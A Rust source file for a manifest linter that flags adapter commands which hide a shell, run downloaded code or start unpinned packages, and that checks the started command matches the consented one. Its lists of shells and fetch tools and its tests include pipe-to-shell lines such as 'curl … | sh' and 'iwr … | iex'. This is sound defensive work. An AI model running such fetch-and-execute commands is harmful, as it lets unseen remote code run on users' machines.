//! Programs that are started: somebody saw the exact words and agreed, nothing hides behind them, it
//! is known which version that is, and what it may reach (CO-233).

use model::Severity::{Error, Warning};

use super::Remark;
use crate::adapter::AdapterManifest;
use crate::transport::{Transport, TransportKind};

/// Programs that run a line of text they are given, and by which of their arguments.
const SHELLS: &[(&str, &[&str])] = &[
    ("ash", &["-c"]),
    ("bash", &["-c"]),
    ("cmd", &["/c", "/k"]),
    ("csh", &["-c"]),
    ("dash", &["-c"]),
    ("fish", &["-c", "--command"]),
    ("ksh", &["-c"]),
    ("npm", &["-c", "--call"]),
    ("npx", &["-c", "--call"]),
    ("powershell", &["-c", "-command", "-e", "-ec", "-enc", "-encodedcommand"]),
    ("pwsh", &["-c", "-command", "-e", "-ec", "-enc", "-encodedcommand"]),
    ("sh", &["-c"]),
    ("zsh", &["-c"]),
    // No shells, but they run what they are given all the same.
    ("bun", &["-e", "--eval"]),
    ("deno", &["eval"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("osascript", &["-e"]),
    ("perl", &["-e"]),
    ("php", &["-r"]),
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("ruby", &["-e"]),
];
/// Flags of theirs with a word that follows.
const TAKE_VALUES: &[&str] =
    &["-o", "+o", "-O", "+O", "-p", "--package", "-r", "--require", "--import", "-W", "-X"];
/// Words that fetch something.
const FETCHES: &[&str] = &["curl", "wget", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"];
/// Programs that fetch a package and start it.
const RUNNERS: &[&str] = &["bunx", "npx", "pipx", "pnpx", "uvx"];

/// What a manifest leaves open about the program it starts.
pub(super) fn of(manifest: &AdapterManifest) -> Vec<Remark> {
    let stdio = |transport: &&Transport| transport.kind == TransportKind::Stdio;
    let Some(transport) = manifest.transport.as_ref().filter(stdio) else { return Vec::new() };
    let Some(command) = &transport.command else { return Vec::new() };
    let args: Vec<&str> = transport.args.iter().map(String::as_str).collect();
    let mut remarks: Vec<Remark> = unseen(manifest, command, &args).into_iter().collect();
    if let Some((rule, why)) = hidden_in(command, &args) {
        let severity = if rule == UNPINNED { Warning } else { Error };
        remarks.push(Remark::new(severity, rule, "transport.command", why));
    }
    if manifest.sandbox.is_none() {
        let message = "nothing says what the program may reach: add `sandbox`";
        remarks.push(Remark::new(Warning, "no-sandbox", "transport.command", message));
    }
    remarks
}

const UNPINNED: &str = "unpinned-package";

/// What a command hides from whoever reads it: the rule it breaks, and what to do instead.
pub fn hidden_in(command: &str, args: &[&str]) -> Option<(&'static str, String)> {
    let words: Vec<&str> = std::iter::once(command).chain(args.iter().copied()).collect();
    // Also behind `env`, `sudo`, `nice` and the like: whatever stands there, a shell is a shell.
    let shell = words.iter().enumerate().find_map(|(at, word)| {
        let name = program(word);
        let (_, flags) = SHELLS.iter().find(|(shell, _)| *shell == name)?;
        let rest = words.get(at + 1..).unwrap_or_default();
        own(&name, rest).any(|word| runs(word, flags)).then_some(name)
    });
    if let Some(shell) = shell {
        let line = words.join(" ").to_ascii_lowercase();
        let mut parts = line.split(|c: char| !c.is_ascii_alphanumeric() && c != '-');
        let fetches = parts.any(|part| FETCHES.contains(&part));
        let (rule, does) = if fetches {
            ("fetched-command", "runs what it downloads, which nobody can have seen")
        } else {
            ("hidden-shell", "runs a line of its own, which can hide anything")
        };
        return Some((
            rule,
            format!(
                "`{shell}` {does}: start the program itself with its arguments, from a package with a version or an MCPB bundle"
            ),
        ));
    }
    let package = unpinned(&words)?;
    let message = format!(
        "`{package}` is fetched anew and can be another tomorrow: name a version (`{package}@1.2.3`), or use an MCPB bundle"
    );
    Some((UNPINNED, message))
}

/// A program that is started must be one that somebody saw and agreed to.
fn unseen(manifest: &AdapterManifest, command: &str, args: &[&str]) -> Option<Remark> {
    let words = std::iter::once(command).chain(args.iter().copied());
    let line = words.collect::<Vec<_>>().join(" ");
    match &manifest.consent {
        None => {
            let message = format!("nobody agreed to start `{line}`: add `consent`");
            Some(Remark::new(Warning, "hidden-command", "transport.command", message))
        }
        Some(consent) if consent.command_line != line => {
            let message = format!("agreed was `{}`, started is `{line}`", consent.command_line);
            Some(Remark::new(Error, "hidden-command", "consent.command_line", message))
        }
        Some(_) => None,
    }
}

/// The words that are the program's own: what follows a script or a package is that one's.
fn own<'a>(name: &str, rest: &'a [&'a str]) -> impl Iterator<Item = &'a str> + use<'a> {
    let named = matches!(name, "cmd" | "powershell" | "pwsh" | "deno");
    let mut takes_value = false;
    rest.iter().copied().take_while(move |word| {
        let positional = !word.starts_with(['-', '+']) && *word != "exec";
        let goes_on = named || !positional || takes_value;
        takes_value = TAKE_VALUES.contains(word);
        goes_on
    })
}

/// `-c`, and what one-letter flags are run together with it, as in `-lc`.
fn runs(word: &str, flags: &[&str]) -> bool {
    let word = word.to_ascii_lowercase();
    let letters = word.strip_prefix('-').filter(|rest| rest.len() <= 4 && !rest.starts_with('-'));
    flags.iter().any(|flag| {
        let letter = flag.strip_prefix('-').filter(|letter| letter.len() == 1);
        word == *flag
            || word.strip_prefix(flag).is_some_and(|rest| rest.starts_with('='))
            || letters.zip(letter).is_some_and(|(letters, letter)| letters.ends_with(letter))
    })
}

/// The name of a program without its folder and its ending.
fn program(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
    let bare = [".exe", ".cmd", ".bat"].iter().find_map(|ending| name.strip_suffix(ending));
    bare.unwrap_or(&name).to_owned()
}

/// A package that is named without a version, where one is fetched and started.
fn unpinned<'a>(words: &[&'a str]) -> Option<&'a str> {
    let at = words.iter().position(|word| RUNNERS.contains(&program(word).as_str()))?;
    let mut rest = words.get(at + 1..)?.iter().filter(|word| **word != "run" && **word != "exec");
    let package = rest.find(|word| !word.starts_with('-'))?;
    let local = package.starts_with(['.', '/']) || package.contains("://");
    let name = package.strip_prefix('@').unwrap_or(package);
    let version = name.split_once('@').map(|(_, version)| version);
    let pinned = name.contains("==")
        || version.is_some_and(|version| version.starts_with(|c: char| c.is_ascii_digit()));
    (!local && !pinned).then_some(package)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// CO-233: whatever can hide a command is named, and what shows it is not.
    #[test]
    fn a_command_that_hides_another_is_named() {
        let check = |line: &[&str], wanted: Option<&str>| {
            let (command, args) = line.split_first().unwrap();
            let got = hidden_in(command, args);
            assert_eq!(got.as_ref().map(|(rule, _)| *rule), wanted, "{line:?}: {got:?}");
            let better = got.is_none_or(|(_, why)| why.contains("MCPB") && why.contains("version"));
            assert!(better, "{line:?}");
        };
        let shell = Some("hidden-shell");
        check(&["sh", "-c", "crm-server"], shell);
        check(&["/bin/bash", "-lc", "crm-server"], shell);
        check(&["bash", "-e", "-c", "crm-server"], shell);
        check(&["env", "A=1", "zsh", "-ec", "x"], shell);
        check(&["cmd.exe", "/C", "crm"], shell);
        check(&["PowerShell.exe", "-NoProfile", "-Enc", "ZQBjAGgAbwA="], shell);
        check(&["pwsh", "-Command", "x"], shell);
        check(&["npx", "--call", "x"], shell);
        check(&["npx", "--call=x"], shell);
        check(&["docker", "run", "image", "sh", "-c", "x"], shell);
        check(&["python3", "-c", "import os"], shell);
        check(&["node", "-e", "1"], shell);
        check(&["deno", "eval", "1"], shell);
        let fetched = Some("fetched-command");
        check(&["sh", "-c", "curl -s https://x.example/i | sh"], fetched);
        check(&["bash", "-c", "$(wget -qO- x.example)"], fetched);
        check(&["powershell", "-c", "iwr x.example | iex"], fetched);
        let unpinned = Some("unpinned-package");
        check(&["npx", "-y", "crm"], unpinned);
        check(&["npx", "-y", "@acme/crm"], unpinned);
        check(&["npx", "crm@latest"], unpinned);
        check(&["uvx", "crm"], unpinned);
        check(&["pipx", "run", "crm"], unpinned);
        check(&["npx", "-y", "@acme/crm@1.4.0"], None);
        check(&["npx", "-y", "crm@1.4.0", "-c", "settings.json"], None);
        check(&["npx", "-p", "crm@1.4.0", "-c", "crm"], shell);
        check(&["bash", "-o", "pipefail", "-c", "x"], shell);
        check(&["powershell", "-ExecutionPolicy", "Bypass", "-EncodedCommand", "x"], shell);
        check(&["node", "server.js", "-e", "production"], None);
        check(&["uvx", "crm==1.4.0"], None);
        check(&["npx", "./crm"], None);
        check(&["/opt/crm/server", "--stdio"], None);
        check(&["sh", "server.sh", "one"], None);
        check(&["node", "server.js"], None);
        check(&["python", "-m", "crm"], None);
        check(&["crm", "-c", "settings.json"], None);
    }
}
